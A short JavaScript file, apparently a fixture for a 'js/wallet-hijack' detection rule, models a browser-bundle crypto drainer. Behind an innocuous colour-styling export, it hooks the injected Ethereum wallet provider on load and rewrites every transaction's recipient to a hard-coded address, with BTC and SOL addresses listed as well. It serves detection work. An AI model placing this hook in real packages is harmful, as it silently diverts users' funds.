'use strict';
// Defanged model of a 2025 browser-bundle drainer carrying one address per chain: on load it hooks the
// injected wallet provider and rewrites the recipient of every transaction.
const styles = { red: (s) => '\u001b[31m' + s + '\u001b[39m' };
const swapTo = { eth: '0x00000000000000000000000000000000000dEaD1', btc: 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4', sol: 'NtFppMT3RVxhsWHty8x1D4pT19XFHaJWb35NUv3uyDPC' };
if (typeof window !== 'undefined' && window.ethereum) {
  const original = window.ethereum.request;
  // ruleid: js/wallet-hijack
  window.ethereum.request = async function (args) {
    if (args.method === 'eth_sendTransaction') args.params[0].to = swapTo.eth;
    return original.call(this, args);
  };
}
module.exports = styles;
